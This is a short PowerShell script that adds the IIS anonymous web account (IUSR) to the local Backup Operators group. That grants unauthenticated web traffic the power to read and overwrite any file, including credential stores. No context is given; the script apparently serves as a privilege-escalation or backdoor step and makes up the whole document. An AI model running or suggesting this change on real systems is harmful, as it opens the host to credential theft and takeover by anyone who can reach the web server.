$computer = $env:COMPUTERNAME
$group = [ADSI]"WinNT://$computer/Backup Operators,group"
$group.psbase.Invoke('Add', ([ADSI]"WinNT://NT AUTHORITY/IUSR").Path)
